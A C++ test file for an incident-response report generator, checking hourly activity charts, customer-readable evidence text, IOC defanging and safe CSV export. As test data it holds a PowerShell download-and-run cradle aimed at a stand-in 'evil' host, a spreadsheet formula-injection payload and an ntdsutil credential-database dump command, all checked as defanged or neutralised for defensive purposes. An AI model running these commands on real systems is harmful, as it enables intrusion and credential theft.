// The notice as a document: the chart's bins come from the window, evidence text is
// customer text, the CSV files are what Excel expects, every rule speaks です/ます.
#include <doctest/doctest.h>

#include <filesystem>
#include <regex>

#include "notice/chart.hpp"
#include "notice/customer_text.hpp"
#include "notice/defang.hpp"
#include "notice/rule_text.hpp"
#include "notice_fixture.hpp"

using namespace kk::notice;
using kk_test::count_of;

namespace {
constexpr std::int64_t kHour = 3600LL * 1000000;

// One timeline event of ARTIFACT at T.
void event(NoticeInputs& in, kk::Diagnostics& diag, std::string_view artifact, kk::UtcMicros t) {
  std::string line = R"({"timestamp":)" + std::to_string(t) + R"(,"datetime":")" +
                     kk::format_iso(t) + R"(","artifact":")" + std::string(artifact) +
                     R"(","message":"x","source":"s"})";
  in.add_line(line, "test", 1, diag);
}
}  // namespace

TEST_CASE("a 3-day window gives 72 hourly bins holding every event of the window") {
  kk::Diagnostics diag("test");
  NoticeInputs in;
  const kk::UtcMicros start = *kk::parse_user_time("2024-05-01T00:00:00Z", "UTC");
  const kk::UtcMicros end = start + 72 * kHour, anchor = end;
  // 500 event-log records in one hour, 3 prefetch runs in another, 1 at each edge, and
  // two outside the window.
  for (int i = 0; i < 500; ++i) event(in, diag, "evtx", start + 10 * kHour + i * 1000000);
  for (int i = 0; i < 3; ++i) event(in, diag, "prefetch", start + 40 * kHour + i);
  event(in, diag, "mft", start);
  event(in, diag, "usnjrnl", end);
  event(in, diag, "evtx", start - 1);
  event(in, diag, "evtx", end + 1);
  Catalog cat(Lang::kJa);
  Chart c = activity_chart(in, start, end, anchor, cat, ChartOptions{});
  CHECK(c.bins == 72);
  CHECK(c.bin_hours == 1);
  CHECK(c.total == 505);
  // Caption, the SVG's label and the Markdown table all say "1 時間".
  CHECK(c.caption.find("1 時間ごと") != std::string::npos);
  CHECK(c.svg.find("aria-label=\"" + c.caption) != std::string::npos);
  CHECK(c.fallback.header.front().find("1 時間") != std::string::npos);
  CHECK(c.svg.find("data-bins=\"72\"") != std::string::npos);
  // The Markdown rows (bins with events) add up to the window's count.
  std::int64_t sum = 0;
  for (const auto& row : c.fallback.rows) sum += std::stoll(row.back().front().text);
  CHECK(sum == 505);
  CHECK(c.fallback.rows.size() == 4);  // hour 0, hour 10, hour 40, hour 71 (the end)
  // Square-root scale: the bar of 3 is over 5 % as tall as the bar of 500 (0.6 % on a linear
  // scale, a hairline).
  std::regex bar(
      R"re(<rect x="[0-9.]+" y="([0-9.]+)" width="[0-9.]+" height="([0-9.]+)" fill="#d9534f"><title>3</title>)re");
  std::smatch m;
  REQUIRE(std::regex_search(c.svg, m, bar));
  std::regex big(R"re(height="([0-9.]+)" fill="#1f4e79"><title>500</title>)re");
  std::smatch mb;
  REQUIRE(std::regex_search(c.svg, mb, big));
  CHECK(std::stod(m[2]) * 20 > std::stod(mb[1]));
  // Detection marked.
  CHECK(c.svg.find("class=\"detection-marker\"") != std::string::npos);
  // A 70-day window widens the bins (12 h) but still holds every event.
  Chart wide = activity_chart(in, start - 67 * 24 * kHour, end, anchor, cat, ChartOptions{});
  CHECK(wide.bin_hours == 12);
  CHECK(wide.total == 506);
}

TEST_CASE("evidence text as a customer reads it") {
  Catalog ja(Lang::kJa), en(Lang::kEn);
  CHECK(customer_text("Impersonation Level: %%1833", ja) == "Impersonation Level: 偽装");
  CHECK(customer_text("ElevatedToken=%%1937", en) == "ElevatedToken=full token (elevated)");
  // An unknown code is left out together with its "Name=".
  CHECK(customer_text("a=1 Product=%%827 b=2", ja) == "a=1 b=2");
  CHECK(customer_text("Trojan:X %%809 on file:_C:\\x.ps1; containerfile:_C:\\y.zip", ja) ==
        "Trojan:X 隔離 on C:\\x.ps1; C:\\y.zip");
  CHECK(customer_text("IEX (New-Object Net.WebClient).DownloadString('https://evil.example.com/a')",
                      ja) ==
        "IEX (New-Object Net.WebClient).DownloadString('hxxps://evil.example[.]com/a')");
  CHECK(defang_urls("see http://a.example.org/x and ftp://b.example.net") ==
        "see hxxp://a.example[.]org/x and fxp://b.example[.]net");
  // UTF-8 read as Windows-1252: shown as such, not pasted.
  CHECK(
      looks_mojibake("\xC3\xA2\xE2\x82\xAC\xC5\x93"
                     "ac i ntds"));
  CHECK_FALSE(looks_mojibake("ntdsutil \"ac i ntds\" ifm"));
  CHECK_FALSE(looks_mojibake("日本語のパス C:\\ユーザー"));
  CHECK(customer_text("\xC3\xA2\xE2\x82\xAC\xC5\x93"
                      "ac i ntds",
                      ja)
            .find("文字化けを含む記録") != std::string::npos);
}

TEST_CASE("every built-in rule has a customer description in Japanese (です/ます)") {
  int rules = 0;
  for (const auto& e :
       std::filesystem::recursive_directory_iterator(std::string(KK_SOURCE_DIR) + "/rules")) {
    if (e.path().extension() != ".yml") continue;
    std::string text = kk_test::read_file(e.path().string());
    auto at = text.find("\nid: ");
    REQUIRE(at != std::string::npos);
    std::string id = text.substr(at + 5, text.find('\n', at + 5) - at - 5);
    std::string_view d = customer_rule_description(id, Lang::kJa);
    CHECK_MESSAGE(!d.empty(), id);
    CHECK_MESSAGE((d.ends_with("です。") || d.ends_with("ます。")), id);
    ++rules;
  }
  CHECK(rules >= 60);
  CHECK(customer_rule_description("KK-PROC-002#3", Lang::kJa) ==
        customer_rule_description("KK-PROC-002", Lang::kJa));
  CHECK(customer_rule_description("KK-SUSPECT-EXEC-PROCESS", Lang::kJa).find("--") ==
        std::string_view::npos);
}

TEST_CASE("the body states every IOC it shows defanged, and no live URL") {
  for (Format f : {Format::kHtml, Format::kMarkdown}) {
    std::string body = kk_test::render_fixture(Lang::kJa, f);
    CHECK(body.find("203.0.113[.]5") != std::string::npos);
    CHECK(body.find("malicious.example[.]net") != std::string::npos);
    CHECK(body.find("203.0.113.5") == std::string::npos);
    CHECK(body.find("malicious.example.net") == std::string::npos);
    std::string text = body;
    for (std::string ns : {"http://www.w3.org/2000/svg", "http://www.w3.org/1999/xhtml"})
      for (auto at = text.find(ns); at != std::string::npos; at = text.find(ns))
        text.erase(at, ns.size());
    CHECK(text.find("http://") == std::string::npos);
    CHECK(text.find("https://") == std::string::npos);
    CHECK(body.find("%%") == std::string::npos);
    CHECK(body.find("--suspect") == std::string::npos);
  }
}

TEST_CASE("CSV files: UTF-8 with BOM, CRLF, quoted, formulas neutralised") {
  kk::Diagnostics diag("test");
  auto c = kk_test::fixture_case();
  NoticeInputs in(c.list("detection.suspect_files"));
  kk_test::load_fixture(in, diag);
  in.add_line(
      R"({"artifact":"finding","id":"X-1","question":"tampering","severity":"high","title":"t",)"
      R"("evidence":[{"source":"a.evtx","time":"2024-05-01T03:00:00Z","summary":"=cmd|' /C calc'!A0, \"q\""}]})",
      "t", 1, diag);
  auto files = notice_csv_files(c, in, RenderOptions{});
  REQUIRE(files.size() == 4);
  for (const auto& f : files) {
    CHECK(f.content.starts_with("\xEF\xBB\xBF"));
    CHECK(f.content.find("\r\n") != std::string::npos);
    CHECK(count_of(f.content, "\n") == count_of(f.content, "\r\n"));
  }
  const std::string& findings = files[1].content;
  CHECK(files[1].name == "findings.csv");
  CHECK(findings.find("\"'=cmd|' /C calc'!A0, \"\"q\"\"\"") != std::string::npos);
  // Every evidence row of the fixture's findings is there.
  std::size_t evidence = 0;
  for (const auto& f : in.findings) evidence += std::max<std::size_t>(f.evidence.size(), 1);
  CHECK(count_of(findings, "\r\n") == evidence + 1);
  CHECK(files[2].content.find("203.0.113[.]5") != std::string::npos);  // iocs.csv, defanged
}

TEST_CASE("render_case_documents: the same bytes as each document rendered on its own") {
  kk::Diagnostics diag("test");
  auto c = kk_test::fixture_case();
  NoticeInputs in(c.list("detection.suspect_files"));
  kk_test::load_fixture(in, diag);
  for (Lang lang : {Lang::kJa, Lang::kEn})
    for (unsigned jobs : {1u, 2u}) {
      RenderOptions opt;
      opt.lang = lang;
      std::vector<std::pair<std::string, std::string>> alone;
      auto one = [&](Format f, Part p) {
        RenderOptions o = opt;
        o.format = f;
        o.part = p;
        return render_notice(c, in, o);
      };
      alone.emplace_back("notice.html", one(Format::kHtml, Part::kNotice));
      alone.emplace_back("notice.md", one(Format::kMarkdown, Part::kNotice));
      alone.emplace_back("notice.json", one(Format::kJson, Part::kNotice));
      alone.emplace_back(std::string(kBriefMarkdown), one(Format::kMarkdown, Part::kBrief));
      alone.emplace_back(std::string(kBriefHtml), one(Format::kHtml, Part::kBrief));
      alone.emplace_back(std::string(kAppendixHtml), one(Format::kHtml, Part::kAppendix));
      for (auto& f : notice_csv_files(c, in, opt)) alone.emplace_back(f.name, f.content);
      auto together = render_case_documents(c, in, opt, jobs);
      REQUIRE(together.size() == alone.size());
      for (std::size_t i = 0; i < alone.size(); ++i) {
        CAPTURE(alone[i].first);
        CHECK(together[i].name == alone[i].first);
        CHECK(together[i].content == alone[i].second);
      }
    }
}
